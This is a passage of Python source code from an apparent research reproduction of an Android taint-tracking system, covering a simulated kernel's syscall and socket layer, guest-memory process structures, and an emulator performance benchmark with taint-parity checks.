            return
        if src_loc is None:
            src_loc = Loc.java(tag)
        self.ledger.record(tag, f"sink:{name}", src_loc,
                           Loc.sink(destination),
                           location=f"syscall:{name}")

    @staticmethod
    def _sink_view(taints: Optional[List[TaintLabel]],
                   src_loc: Optional[Loc],
                   written: int) -> Tuple[Optional[List[TaintLabel]],
                                          Optional[Loc]]:
        """Clip a sink recording to the bytes that actually left.

        After a short count (``("partial", n)`` fault or a device-level
        truncation) the sink edge must describe the emitted prefix only:
        both the taint list and a precise native ``mem`` source location
        shrink to ``written`` bytes, so the ledger never claims that the
        truncated tail reached the destination.
        """
        if taints is not None and written < len(taints):
            taints = taints[:written]
        if src_loc is not None and src_loc.kind == "mem" \
                and 0 < written < src_loc.length:
            src_loc = Loc.mem(src_loc.base, written)
        return taints, src_loc

    # -- process management ----------------------------------------------------

    def spawn_process(self, name: str) -> Process:
        process = Process(pid=self._next_pid, name=name)
        self._next_pid += 1
        self.processes[process.pid] = process
        if self.current is None:
            self.current = process
        self.sync_tasks_to_guest()
        return process

    def set_current(self, process: Process) -> None:
        if process.pid not in self.processes:
            raise KernelError(f"unknown process pid={process.pid}")
        self.current = process

    def sync_tasks_to_guest(self) -> None:
        """Re-serialise the task list into guest memory (see process.py)."""
        ordered = sorted(self.processes.values(), key=lambda p: p.pid)
        next_task = 0
        # Serialise back-to-front so each task knows its successor.
        for process in reversed(ordered):
            next_task = process.sync_to_guest(self.memory,
                                              self._kernel_allocator,
                                              next_task)
        self.memory.write_u32(TASK_LIST_HEAD, next_task)

    def _require_current(self) -> Process:
        if self.current is None:
            raise KernelError("no current process")
        return self.current

    def _descriptor(self, fd: int) -> FileDescriptor:
        process = self._require_current()
        descriptor = process.fds.get(fd)
        if descriptor is None:
            raise KernelError(f"bad fd {fd} in pid {process.pid}")
        return descriptor

    # -- files --------------------------------------------------------------------

    def sys_open(self, path: str, flags: int = O_RDONLY) -> int:
        process = self._require_current()
        self._count("open")
        file = self.filesystem.open_or_create(
            path, create=bool(flags & O_CREAT), truncate=bool(flags & O_TRUNC))
        fd = process.allocate_fd()
        offset = file.size if flags & O_APPEND else 0
        process.fds[fd] = FileDescriptor(
            fd=fd, kind="file", path=path, file=file, offset=offset,
            writable=bool(flags & (O_WRONLY | O_RDWR | O_CREAT | O_APPEND)))
        self.event_log.emit("kernel", "open", f"{path} -> fd {fd}",
                            path=path, fd=fd, flags=flags)
        return fd

    def sys_close(self, fd: int) -> int:
        process = self._require_current()
        self._count("close")
        descriptor = self._descriptor(fd)
        if descriptor.kind == "socket":
            self.network.close(fd)
        del process.fds[fd]
        self.event_log.emit("kernel", "close", f"fd {fd}", fd=fd)
        return 0

    def _apply_write_faults(
            self, name: str, payload: bytes,
            taints: Optional[List[TaintLabel]],
    ) -> Tuple[bytes, Optional[List[TaintLabel]]]:
        """Short-count/transient semantics for write-like syscalls.

        A ``("partial", n)`` decision truncates the payload *and* its
        taints together, so a short count taints only the bytes actually
        emitted at the sink; ``("errno", e)`` raises a transient fault the
        supervisor retries.
        """
        if self.syscall_fault_hook is None:
            return payload, taints
        decision = self.syscall_fault_hook(name, len(payload))
        if decision is None:
            return payload, taints
        kind, value = decision
        if kind == "errno":
            self.event_log.emit("kernel", "syscall.fault",
                                f"{name} -> {Errno(value).name}",
                                syscall=name, errno=int(value))
            raise TransientSyscallFault(name, int(value))
        if kind == "partial":
            count = max(0, min(int(value), len(payload)))
            self.event_log.emit(
                "kernel", "syscall.partial",
                f"{name} short count {count}/{len(payload)}",
                syscall=name, requested=len(payload), written=count)
            return payload[:count], (taints[:count] if taints is not None
                                     else None)
        raise KernelError(f"unknown syscall fault decision {kind!r}")

    def sys_write(self, fd: int, payload: bytes,
                  taints: Optional[List[TaintLabel]] = None, *,
                  src_loc: Optional[Loc] = None) -> int:
        descriptor = self._descriptor(fd)
        self._count("write")
        if taints is not None and len(taints) != len(payload):
            raise KernelError("taint list length mismatch")
        payload, taints = self._apply_write_faults("write", payload, taints)
        # The sink edge is recorded *after* the device accepted the bytes
        # (and only over the accepted prefix): a send that raises, or one
        # that writes short, must not leave a ledger edge claiming the
        # full payload reached the destination.
        if descriptor.kind == "socket":
            socket = descriptor.socket
            target = (socket.connected_to if socket is not None else None)
            written = self.network.send(fd, payload, taints)
            sink_taints, sink_loc = self._sink_view(taints, src_loc, written)
            self._record_sink("write", sink_taints, target or f"socket:{fd}",
                              sink_loc)
            return written
        if not descriptor.writable:
            raise KernelError(f"fd {fd} not writable")
        written = descriptor.file.write_at(descriptor.offset, payload, taints)
        descriptor.offset += written
        sink_taints, sink_loc = self._sink_view(taints, src_loc, written)
        self._record_sink("write", sink_taints, descriptor.path or f"fd:{fd}",
                          sink_loc)
        self.event_log.emit("kernel", "write",
                            f"fd {fd} ({descriptor.path}) {written} bytes",
                            fd=fd, path=descriptor.path, length=written)
        return written

    def sys_read(self, fd: int,
                 length: int) -> Tuple[bytes, List[TaintLabel]]:
        descriptor = self._descriptor(fd)
        self._count("read")
        if descriptor.kind == "socket":
            chunk = self.network.recv(fd, length)
            return chunk, [TAINT_CLEAR] * len(chunk)
        chunk, taints = descriptor.file.read_at(descriptor.offset, length)
        descriptor.offset += len(chunk)
        return chunk, taints

    def sys_stat(self, path: str) -> Dict[str, int]:
        self._count("stat")
        if self.filesystem.is_dir(path):
            return {"size": 0, "is_dir": 1}
        file = self.filesystem.lookup(path)
        return {"size": file.size, "is_dir": 0}

    def sys_mkdir(self, path: str) -> int:
        self._count("mkdir")
        self.filesystem.mkdir(path)
        return 0

    def sys_unlink(self, path: str) -> int:
        self._count("unlink")
        self.filesystem.remove(path)
        return 0

    def sys_rename(self, old: str, new: str) -> int:
        self._count("rename")
        self.filesystem.rename(old, new)
        return 0

    # -- sockets --------------------------------------------------------------------

    def sys_socket(self, domain: int = AF_INET,
                   type_: int = SOCK_STREAM) -> int:
        process = self._require_current()
        self._count("socket")
        fd = process.allocate_fd()
        socket = self.network.create_socket(fd, domain, type_)
        process.fds[fd] = FileDescriptor(fd=fd, kind="socket", socket=socket)
        self.event_log.emit("kernel", "socket", f"fd {fd}", fd=fd)
        return fd

    def sys_connect(self, fd: int, destination: str) -> int:
        self._descriptor(fd)
        self._count("connect")
        self.network.connect(fd, destination)
        self.event_log.emit("kernel", "connect", f"fd {fd} -> {destination}",
                            fd=fd, destination=destination)
        return 0

    def sys_bind(self, fd: int, address: str) -> int:
        self._descriptor(fd)
        self._count("bind")
        self.network.bind(fd, address)
        return 0

    def sys_listen(self, fd: int) -> int:
        self._descriptor(fd)
        self._count("listen")
        self.network.listen(fd)
        return 0

    def sys_send(self, fd: int, payload: bytes,
                 taints: Optional[List[TaintLabel]] = None, *,
                 src_loc: Optional[Loc] = None) -> int:
        descriptor = self._descriptor(fd)
        self._count("send")
        payload, taints = self._apply_write_faults("send", payload, taints)
        socket = descriptor.socket
        target = socket.connected_to if socket is not None else None
        written = self.network.send(fd, payload, taints)
        sink_taints, sink_loc = self._sink_view(taints, src_loc, written)
        self._record_sink("send", sink_taints, target or f"socket:{fd}",
                          sink_loc)
        return written

    def sys_sendto(self, fd: int, payload: bytes, destination: str,
                   taints: Optional[List[TaintLabel]] = None, *,
                   src_loc: Optional[Loc] = None) -> int:
        descriptor = self._descriptor(fd)
        self._count("sendto")
        payload, taints = self._apply_write_faults("sendto", payload, taints)
        socket = descriptor.socket
        target = destination or (socket.connected_to
                                 if socket is not None else None)
        written = self.network.send(fd, payload, taints,
                                    destination=destination)
        sink_taints, sink_loc = self._sink_view(taints, src_loc, written)
        self._record_sink("sendto", sink_taints, target or f"socket:{fd}",
                          sink_loc)
        return written

    def sys_recv(self, fd: int, length: int) -> bytes:
        self._descriptor(fd)
        self._count("recv")
        return self.network.recv(fd, length)

    # -- the SVC trap path ---------------------------------------------------------

    def handle_svc(self, imm: int, emu) -> None:
        """Emulator syscall handler: ARM EABI convention."""
        del imm  # EABI passes the number in r7, not the SVC immediate.
        cpu, memory = emu.cpu, emu.memory
        number = cpu.regs[7]
        self.syscall_count += 1
        if not NR.has(number):
            raise KernelError(f"unknown syscall {number}")
        nr = NR(number)
        args = cpu.regs[:6]

        if nr == NR.WRITE or nr == NR.SEND:
            address, length = args[1], args[2]
            payload = memory.read_bytes(address, length)
            taints = (self.taint_provider(address, length)
                      if self.taint_provider else None)
            cpu.write_reg(0, self.sys_write(args[0], payload, taints,
                                            src_loc=Loc.mem(address,
                                                            length)))
        elif nr == NR.SENDTO:
            address, length = args[1], args[2]
            payload = memory.read_bytes(address, length)
            destination = memory.read_cstring(args[4]).decode(
                "utf-8", errors="replace") if args[4] else ""
            taints = (self.taint_provider(address, length)
                      if self.taint_provider else None)
            cpu.write_reg(0, self.sys_sendto(args[0], payload, destination,
                                             taints,
                                             src_loc=Loc.mem(address,
                                                             length)))
        elif nr == NR.READ or nr == NR.RECV:
            chunk, __ = self.sys_read(args[0], args[2])
            memory.write_bytes(args[1], chunk)
            cpu.write_reg(0, len(chunk))
        elif nr == NR.OPEN:
            path = memory.read_cstring(args[0]).decode("utf-8")
            cpu.write_reg(0, self.sys_open(path, args[1]))
        elif nr == NR.CLOSE:
            cpu.write_reg(0, self.sys_close(args[0]))
        elif nr == NR.SOCKET:
            cpu.write_reg(0, self.sys_socket(args[0], args[1]))
        elif nr == NR.CONNECT:
            destination = memory.read_cstring(args[1]).decode("utf-8")
            cpu.write_reg(0, self.sys_connect(args[0], destination))
        elif nr == NR.MKDIR:
            path = memory.read_cstring(args[0]).decode("utf-8")
            cpu.write_reg(0, self.sys_mkdir(path))
        elif nr == NR.GETPID:
            self._count("getpid")
            cpu.write_reg(0, self._require_current().pid)
        elif nr == NR.EXIT:
            self._count("exit")
            emu.stop()
        else:
            # Recognised but unmodelled syscalls return success; they are
            # hooked for observation (Table VII), not for behaviour.
            self._count(nr.name.lower())
            self.event_log.emit("kernel", "syscall.stub", nr.name, nr=number)
            cpu.write_reg(0, 0)
