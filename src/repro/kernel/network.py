"""Socket layer that records every outbound transmission.

The network is the paper's canonical sink: QQPhoneBook posts to
``info.3g.qq.com``, ePhone registers with ``softphone.comwave.net``.  Every
``send``/``sendto``/``write``-on-socket lands in :attr:`NetworkStack.transmissions`
with its payload and the taint labels the caller attached, so integration
tests can assert both *that* data left the device and *what* it carried.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common.errors import KernelError
from repro.common.taint import TAINT_CLEAR, TaintLabel, combine

AF_INET = 2
SOCK_STREAM = 1
SOCK_DGRAM = 2


@dataclass
class Transmission:
    """One outbound packet/stream chunk."""

    fd: int
    destination: str
    payload: bytes
    taints: List[TaintLabel] = field(default_factory=list)

    @property
    def taint_union(self) -> TaintLabel:
        return combine(*self.taints) if self.taints else TAINT_CLEAR


@dataclass
class Socket:
    """One endpoint: connection state plus received-data queue."""
    fd: int
    domain: int = AF_INET
    type: int = SOCK_STREAM
    connected_to: Optional[str] = None
    bound_to: Optional[str] = None
    listening: bool = False
    received: List[bytes] = field(default_factory=list)
    closed: bool = False


class NetworkStack:
    """All sockets plus the global transmission record."""

    def __init__(self) -> None:
        self._sockets: Dict[int, Socket] = {}
        self.transmissions: List[Transmission] = []
        # Canned responses keyed by destination, for recv() in scenarios.
        self._responses: Dict[str, List[bytes]] = {}

    def create_socket(self, fd: int, domain: int, type_: int) -> Socket:
        socket = Socket(fd=fd, domain=domain, type=type_)
        self._sockets[fd] = socket
        return socket

    def socket_for(self, fd: int) -> Socket:
        socket = self._sockets.get(fd)
        if socket is None or socket.closed:
            raise KernelError(f"bad socket fd {fd}")
        return socket

    def is_socket(self, fd: int) -> bool:
        socket = self._sockets.get(fd)
        return socket is not None and not socket.closed

    def connect(self, fd: int, destination: str) -> None:
        self.socket_for(fd).connected_to = destination

    def bind(self, fd: int, address: str) -> None:
        self.socket_for(fd).bound_to = address

    def listen(self, fd: int) -> None:
        socket = self.socket_for(fd)
        if socket.bound_to is None:
            raise KernelError(f"listen on unbound socket {fd}")
        socket.listening = True

    def send(self, fd: int, payload: bytes,
             taints: Optional[List[TaintLabel]] = None,
             destination: Optional[str] = None) -> int:
        socket = self.socket_for(fd)
        target = destination or socket.connected_to
        if target is None:
            raise KernelError(f"send on unconnected socket {fd}")
        if taints is None:
            taints = [TAINT_CLEAR] * len(payload)
        self.transmissions.append(
            Transmission(fd=fd, destination=target, payload=bytes(payload),
                         taints=list(taints)))
        return len(payload)

    def queue_response(self, destination: str, payload: bytes) -> None:
        self._responses.setdefault(destination, []).append(payload)

    def recv(self, fd: int, max_length: int) -> bytes:
        socket = self.socket_for(fd)
        if socket.connected_to is None:
            raise KernelError(f"recv on unconnected socket {fd}")
        queue = self._responses.get(socket.connected_to, [])
        if not queue:
            return b""
        payload = queue.pop(0)
        chunk, rest = payload[:max_length], payload[max_length:]
        if rest:
            queue.insert(0, rest)
        return chunk

    def close(self, fd: int) -> None:
        socket = self._sockets.get(fd)
        if socket is not None:
            socket.closed = True

    def transmissions_to(self, destination: str) -> List[Transmission]:
        return [t for t in self.transmissions if destination in t.destination]

    def total_bytes_sent(self) -> int:
        return sum(len(t.payload) for t in self.transmissions)
