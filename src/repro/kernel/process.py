"""Process model with task structures materialised in guest memory.

DroidScope — and NDroid's OS-level view reconstructor, which is "motivated
by DroidScope" (Section V.F) — rebuilds the process list and memory maps by
parsing the guest kernel's ``task_struct``/``vm_area_struct`` chains out of
raw memory.  To make that introspection real rather than a Python-level
shortcut, the simulated kernel serialises each process into guest memory
using the fixed layouts below; the reconstructor later parses those bytes
with no access to the Python objects.

Task struct layout (little-endian words)::

    +0x00  pid
    +0x04  comm[16]          (NUL-padded process name)
    +0x14  vma list head     (pointer, 0 if empty)
    +0x18  next task         (pointer, 0 terminates the list)

VMA struct layout::

    +0x00  vm_start
    +0x04  vm_end
    +0x08  name pointer      (NUL-terminated string elsewhere in memory)
    +0x0c  flags             (bit0: third-party module)
    +0x10  next vma          (pointer, 0 terminates)
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Optional

from repro.kernel.filesystem import RegularFile
from repro.kernel.network import Socket
from repro.memory.allocator import BumpAllocator
from repro.memory.memory import Memory
from repro.memory.regions import MemoryMap

TASK_PID_OFFSET = 0x00
TASK_COMM_OFFSET = 0x04
TASK_COMM_LENGTH = 16
TASK_VMA_OFFSET = 0x14
TASK_NEXT_OFFSET = 0x18
TASK_STRUCT_SIZE = 0x1C

VMA_START_OFFSET = 0x00
VMA_END_OFFSET = 0x04
VMA_NAME_OFFSET = 0x08
VMA_FLAGS_OFFSET = 0x0C
VMA_NEXT_OFFSET = 0x10
VMA_STRUCT_SIZE = 0x14

VMA_FLAG_THIRD_PARTY = 0x1

# The kernel keeps a pointer to the first task here (the "init_task"
# symbol a real introspection tool would resolve from System.map).
TASK_LIST_HEAD = 0xC000_0000
KERNEL_DATA_BASE = 0xC000_0010
KERNEL_DATA_SIZE = 0x0010_0000


@dataclass
class FileDescriptor:
    """One open descriptor: either a file position or a socket."""

    fd: int
    kind: str                       # "file" or "socket"
    path: Optional[str] = None
    file: Optional[RegularFile] = None
    socket: Optional[Socket] = None
    offset: int = 0
    writable: bool = True


class Process:
    """A simulated process: pid, name, memory map and descriptor table."""

    def __init__(self, pid: int, name: str) -> None:
        self.pid = pid
        self.name = name
        self.memory_map = MemoryMap()
        self.fds: Dict[int, FileDescriptor] = {}
        self._next_fd = 3  # 0-2 reserved for std streams
        self.task_struct_address = 0

    def allocate_fd(self) -> int:
        fd = self._next_fd
        self._next_fd += 1
        return fd

    # -- guest-memory serialisation --------------------------------------------

    def sync_to_guest(self, memory: Memory, allocator: BumpAllocator,
                      next_task: int) -> int:
        """Write this process's task struct + VMA chain into guest memory.

        Returns the task struct address.  Called by the kernel whenever the
        process table or a memory map changes, mirroring how real kernel
        structures are always current in RAM.
        """
        if self.task_struct_address == 0:
            self.task_struct_address = allocator.alloc(TASK_STRUCT_SIZE)
        base = self.task_struct_address
        memory.write_u32(base + TASK_PID_OFFSET, self.pid)
        comm = self.name.encode("utf-8")[:TASK_COMM_LENGTH - 1]
        memory.write_bytes(base + TASK_COMM_OFFSET,
                           comm + b"\x00" * (TASK_COMM_LENGTH - len(comm)))
        memory.write_u32(base + TASK_NEXT_OFFSET, next_task)

        previous_ptr = base + TASK_VMA_OFFSET
        memory.write_u32(previous_ptr, 0)
        for region in self.memory_map:
            vma = allocator.alloc(VMA_STRUCT_SIZE)
            name_address = allocator.alloc(len(region.name) + 1)
            memory.write_cstring(name_address, region.name)
            memory.write_u32(vma + VMA_START_OFFSET, region.start)
            memory.write_u32(vma + VMA_END_OFFSET, region.end)
            memory.write_u32(vma + VMA_NAME_OFFSET, name_address)
            flags = VMA_FLAG_THIRD_PARTY if region.third_party else 0
            memory.write_u32(vma + VMA_FLAGS_OFFSET, flags)
            memory.write_u32(vma + VMA_NEXT_OFFSET, 0)
            memory.write_u32(previous_ptr, vma)
            previous_ptr = vma + VMA_NEXT_OFFSET
        return base
