"""Emulator throughput harness: records the perf trajectory of the engine.

Measures instructions/second on the three benchmark workloads the PR
acceptance criteria name (the uninstrumented CFBench native loop, the JNI
crossing loop, and the Table-V tracer loop), each under both execution
engines — the translation-block engine and the pre-TB single-step
interpreter — and verifies *taint parity*: every Table-1/Fig-6–9 scenario
must produce a byte-identical leak report under both engines.

Results are serialised to ``BENCH_emulator.json``.  Regression gating
compares **speedup ratios** (TB vs single-step on the same machine, same
run) rather than absolute instructions/second, so the committed baseline
is meaningful across machines of different speeds.
"""

from __future__ import annotations

import json
import time
from typing import Callable, Dict, List, Optional, Tuple

from repro.apps import ALL_SCENARIOS
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform
from repro.common.taint import TAINT_IMEI
from repro.core.instruction_tracer import InstructionTracer
from repro.core.taint_engine import TaintEngine
from repro.cpu.assembler import assemble
from repro.dalvik import ClassDef, MethodBuilder
from repro.dalvik.heap import Slot
from repro.dalvik.instructions import Op
from repro.emulator import Emulator
from repro.framework import Apk
from repro.observability.metrics import MetricsRegistry

SCHEMA = "bench_emulator/v1"

# The scenarios whose taint verdicts must be engine-independent
# (Table I cases plus the Fig. 6-9 app reconstructions).
PARITY_SCENARIOS = (
    "case1", "case1_prime", "case2", "case3", "case4", "case2_thumb",
    "qqphonebook", "ephone", "poc_case2", "poc_case3", "benign",
)

# Speedup may drift this much below the committed baseline before the
# regression gate fails (the CI smoke job's threshold).
DEFAULT_TOLERANCE = 0.30

# The instrumented workloads (a live Table V tracer attached) must keep
# at least this TB-vs-single-step speedup: the whole point of compiling
# taint propagation into the blocks is that *analysis* runs at TB speed,
# not just untraced code.
INSTRUMENTED_WORKLOADS = ("table5_tracer", "table5_tracer_tainted")
INSTRUMENTED_SPEEDUP_FLOOR = 2.0

# The JNI crossing loop — the paper's workload — must keep at least this
# TB-vs-single-step speedup now that the managed side trace-compiles
# Dalvik blocks and the bridge runs through per-method trampolines.
JNI_CROSSING_WORKLOAD = "jni_crossing"
JNI_CROSSING_SPEEDUP_FLOOR = 2.0

# Ceiling on the slowdown a *disabled* observability layer may add to the
# uninstrumented CFBench loop (the zero-cost-when-off acceptance gate).
OBS_DISABLED_OVERHEAD_LIMIT = 0.03

CROSSING_CLASS = "Lcom/bench/Crossing;"

# The Table V tracer loop (same shape as benchmarks/bench_table5_tracer.py:
# data processing, scaled-register loads/stores, push/pop).
TRACER_LOOP = """
main:
    push {r4, r5, lr}
    mov r0, #0
    mov r1, #0
    ldr r4, =buffer
loop:
    cmp r1, #400
    bge done
    add r0, r0, r1
    eor r0, r0, r1, lsl #2
    and r2, r1, #15
    str r0, [r4, r2, lsl #2]
    ldr r3, [r4, r2, lsl #2]
    add r0, r0, r3
    add r1, r1, #1
    b loop
done:
    pop {r4, r5, pc}
buffer:
    .space 64
"""

TRACER_CODE_BASE = 0x6000_0000


def _build_crossing_apk() -> Apk:
    """The bench_jni_crossing app: a Java loop over a trivial native call."""
    cls = ClassDef(CROSSING_CLASS)
    cls.add_method(MethodBuilder(CROSSING_CLASS, "nop", "II", static=True,
                                 native=True).build())
    loop = MethodBuilder(CROSSING_CLASS, "cross", "II", static=True,
                         registers=6)
    loop.const(0, 0).const(1, 0)
    loop.label("loop")
    loop.if_cmp(Op.IF_GE, 1, 5, "done")
    loop.invoke_static(f"{CROSSING_CLASS}->nop", 1)
    loop.move_result(2)
    loop.binop(Op.ADD_INT, 0, 0, 2)
    loop.add_lit(1, 1, 1)
    loop.goto("loop")
    loop.label("done")
    loop.ret(0)
    cls.add_method(loop.build())
    main = MethodBuilder(CROSSING_CLASS, "main", "V", static=True,
                         registers=1)
    main.const_string(0, "libcross.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.ret_void()
    cls.add_method(main.build())
    native = """
    Java_com_bench_Crossing_nop:
        add r0, r2, #1
        bx lr
    """
    return Apk(package="com.bench.crossing", classes=[cls],
               native_libraries={"libcross.so": native},
               load_library_calls=["libcross.so"])


def _measure(setup: Callable[[bool], Tuple[Emulator, Callable[[], None]]],
             use_tb: bool, repeats: int) -> Tuple[int, float]:
    """Best-of-``repeats`` timing; returns (instructions, seconds)."""
    best: Optional[Tuple[int, float]] = None
    for _ in range(repeats):
        emu, run = setup(use_tb)
        before = emu.instruction_count
        start = time.perf_counter()
        run()
        elapsed = time.perf_counter() - start
        instructions = emu.instruction_count - before
        if best is None or elapsed < best[1]:
            best = (instructions, elapsed)
    assert best is not None
    return best


class EmulatorBench:
    """Instr/sec on the acceptance workloads, both engines + taint parity."""

    def __init__(self, cfbench_iterations: int = 20_000,
                 jni_crossings: int = 2_000,
                 tracer_calls: int = 10,
                 repeats: int = 3) -> None:
        self.cfbench_iterations = cfbench_iterations
        self.jni_crossings = jni_crossings
        self.tracer_calls = tracer_calls
        self.repeats = repeats

    # -- workloads ----------------------------------------------------------

    def _cfbench_setup(self, use_tb: bool):
        from repro.bench.cfbench import CFBench
        platform = make_platform("vanilla", use_tb=use_tb)
        bench = CFBench(platform)
        iterations = self.cfbench_iterations

        def run() -> None:
            bench.run_workload("native_mips", iterations=iterations)
        return platform.emu, run

    def _jni_crossing_setup(self, use_tb: bool):
        platform = make_platform("vanilla", use_tb=use_tb)
        apk = _build_crossing_apk()
        platform.install(apk)
        platform.run_app(apk)
        # Both engines run with logging off: the workload measures the
        # execution engines, not per-crossing log formatting (and the
        # trampoline fast path requires an idle log to stay faithful).
        platform.event_log.enabled = False
        crossings = self.jni_crossings

        def run() -> None:
            result = platform.vm.call_main(f"{CROSSING_CLASS}->cross",
                                           [Slot(crossings)])
            assert result.value == crossings * (crossings + 1) // 2
        return platform.emu, run

    def _tracer_setup(self, use_tb: bool, tainted: bool = False):
        emu = Emulator(use_tb=use_tb)
        program = assemble(TRACER_LOOP, base=TRACER_CODE_BASE)
        emu.load(TRACER_CODE_BASE, program.code)
        emu.memory_map.map(TRACER_CODE_BASE, 0x1000, "libapp.so",
                           third_party=True)
        emu.cpu.sp = 0x0800_0000
        engine = TaintEngine()
        tracer = InstructionTracer(
            engine, is_third_party=emu.memory_map.is_third_party)
        emu.add_tracer(tracer)
        if tainted:
            # Seed the loop's scratch buffer (not a register: the loop's
            # literal load would overwrite a register seed immediately),
            # so every Table V handler runs with live labels — the
            # worst-case instrumented path.
            engine.set_memory(program.address_of("buffer"), 64, TAINT_IMEI)
        entry = program.entry("main")
        calls = self.tracer_calls

        def run() -> None:
            for _ in range(calls):
                emu.call(entry)
        return emu, run

    def _tainted_tracer_setup(self, use_tb: bool):
        return self._tracer_setup(use_tb, tainted=True)

    def measure_workload(self, name: str) -> Dict[str, float]:
        setup = {
            "cfbench_native_loop": self._cfbench_setup,
            "jni_crossing": self._jni_crossing_setup,
            "table5_tracer": self._tracer_setup,
            "table5_tracer_tainted": self._tainted_tracer_setup,
        }[name]
        step_instr, step_time = _measure(setup, False, self.repeats)
        tb_instr, tb_time = _measure(setup, True, self.repeats)
        assert step_instr == tb_instr, \
            f"{name}: engines disagree on instruction count " \
            f"({step_instr} vs {tb_instr})"
        step_ips = step_instr / step_time if step_time > 0 else float("inf")
        tb_ips = tb_instr / tb_time if tb_time > 0 else float("inf")
        row = {
            "instructions": step_instr,
            "single_step_instr_per_sec": round(step_ips, 1),
            "tb_instr_per_sec": round(tb_ips, 1),
            "speedup": round(tb_ips / step_ips, 3) if step_ips else 0.0,
        }
        if name == JNI_CROSSING_WORKLOAD and self.jni_crossings:
            # Per-crossing latency is the figure the paper's workload
            # actually cares about — one boundary round trip, end to end.
            crossings = self.jni_crossings
            row["single_step_us_per_crossing"] = round(
                step_time / crossings * 1e6, 3)
            row["tb_us_per_crossing"] = round(tb_time / crossings * 1e6, 3)
        return row

    # -- observability zero-cost gate ---------------------------------------

    def measure_observability_overhead(self) -> Dict[str, float]:
        """CFBench loop with observability constructed-but-disabled vs
        absent.  Both runs use the TB engine; best-of-``repeats`` each.
        The ratio must stay under :data:`OBS_DISABLED_OVERHEAD_LIMIT`.

        The span layer rides inside this gate: every engine carries its
        ``span_tracer`` attribute (``None`` here, as in any untraced
        run), so the per-emit ``is not None`` guards are part of the
        measured loop and the <limit ceiling covers them too — the
        result row says so with ``span_layer_included``.
        """
        from repro.bench.cfbench import CFBench
        # Longer runs than the throughput workloads: a percent-level gate
        # needs the signal well above timer/scheduler noise.
        iterations = self.cfbench_iterations * 2

        def timed(observe: bool) -> float:
            platform = make_platform("vanilla", observe=observe)
            bench = CFBench(platform)
            start = time.perf_counter()
            bench.run_workload("native_mips", iterations=iterations)
            return time.perf_counter() - start

        # Interleave the two configurations so machine-state drift hits
        # both equally, then gate on the *median* per-pair ratio — one
        # slow outlier run must not fail CI.
        pairs = []
        for _ in range(max(self.repeats, 5)):
            sample_without = timed(False)
            sample_with = timed(True)
            pairs.append((sample_without, sample_with))
        ratios = sorted(w / base for base, w in pairs)
        median = ratios[len(ratios) // 2]
        without = min(base for base, __ in pairs)
        with_disabled = min(w for __, w in pairs)
        overhead = median - 1.0
        return {
            "cfbench_disabled_overhead": round(max(overhead, 0.0), 4),
            "seconds_without": round(without, 6),
            "seconds_with_disabled": round(with_disabled, 6),
            "limit": OBS_DISABLED_OVERHEAD_LIMIT,
            "span_layer_included": True,
        }

    # -- taint parity -------------------------------------------------------

    @staticmethod
    def _leak_report(name: str, use_tb: bool) -> List[Dict]:
        scenario = ALL_SCENARIOS[name]()
        platform = make_platform("ndroid", use_tb=use_tb)
        run_scenario(scenario, platform)
        report = [
            {
                "detector": record.detector,
                "sink": record.sink,
                "taint": record.taint,
                "destination": record.destination,
                "payload": record.payload.hex(),
                "context": record.context,
            }
            for record in platform.leaks.records
        ]
        report.sort(key=lambda entry: repr(sorted(entry.items())))
        return report

    def taint_parity(self) -> Dict:
        mismatches = []
        for name in PARITY_SCENARIOS:
            if self._leak_report(name, True) != self._leak_report(name, False):
                mismatches.append(name)
        return {
            "scenarios": list(PARITY_SCENARIOS),
            "mismatches": mismatches,
            "identical": not mismatches,
        }

    # -- entry point --------------------------------------------------------

    def run(self) -> Dict:
        # Workload rows are routed through a metrics registry and read
        # back from its snapshot, so ``BENCH_emulator.json`` and
        # ``repro report`` can never disagree on instruction counts.
        registry = MetricsRegistry()
        names = ("cfbench_native_loop", "jni_crossing", "table5_tracer",
                 "table5_tracer_tainted")
        row_keys: Dict[str, List[str]] = {}
        for name in names:
            row = self.measure_workload(name)
            row_keys[name] = list(row)
            for key, value in row.items():
                registry.gauge(f"bench.{name}.{key}").set(value)
        snapshot = registry.snapshot()
        workloads = {
            name: {key: snapshot[f"bench.{name}.{key}"]
                   for key in row_keys[name]}
            for name in names
        }
        return {
            "schema": SCHEMA,
            "workloads": workloads,
            "metrics": snapshot,
            "observability": self.measure_observability_overhead(),
            "taint_parity": self.taint_parity(),
        }


def write_results(results: Dict, path: str) -> None:
    with open(path, "w") as handle:
        json.dump(results, handle, indent=2, sort_keys=True)
        handle.write("\n")


def load_results(path: str) -> Dict:
    with open(path) as handle:
        return json.load(handle)


def compare_to_baseline(current: Dict, baseline: Dict,
                        tolerance: float = DEFAULT_TOLERANCE) -> List[str]:
    """Regression check; returns human-readable failures (empty = pass).

    Gates on the TB-vs-single-step *speedup ratio* per workload, which is
    stable across machines, unlike raw instructions/second.
    """
    failures = []
    baseline_workloads = baseline.get("workloads", {})
    for name, row in current.get("workloads", {}).items():
        if name in INSTRUMENTED_WORKLOADS and \
                row["speedup"] < INSTRUMENTED_SPEEDUP_FLOOR:
            failures.append(
                f"{name}: instrumented speedup {row['speedup']:.2f}x "
                f"below the {INSTRUMENTED_SPEEDUP_FLOOR:.0f}x floor "
                f"(taint compilation is not paying for itself)")
        if name == JNI_CROSSING_WORKLOAD and \
                row["speedup"] < JNI_CROSSING_SPEEDUP_FLOOR:
            failures.append(
                f"{name}: crossing speedup {row['speedup']:.2f}x below "
                f"the {JNI_CROSSING_SPEEDUP_FLOOR:.0f}x floor (managed-"
                f"side trace compilation is not paying for itself)")
        reference = baseline_workloads.get(name)
        if reference is None:
            continue
        floor = reference["speedup"] * (1.0 - tolerance)
        if row["speedup"] < floor:
            failures.append(
                f"{name}: speedup {row['speedup']:.2f}x regressed below "
                f"{floor:.2f}x (baseline {reference['speedup']:.2f}x "
                f"- {tolerance:.0%} tolerance)")
    parity = current.get("taint_parity", {})
    if not parity.get("identical", False):
        failures.append(
            f"taint parity broken: {parity.get('mismatches')}")
    observability = current.get("observability")
    if observability is not None:
        overhead = observability.get("cfbench_disabled_overhead", 0.0)
        limit = observability.get("limit", OBS_DISABLED_OVERHEAD_LIMIT)
        if overhead > limit:
            failures.append(
                f"disabled observability costs {overhead:.1%} on the "
                f"CFBench loop (limit {limit:.0%})")
    return failures
