"""The farm scaling benchmark: serial vs parallel vs resumed.

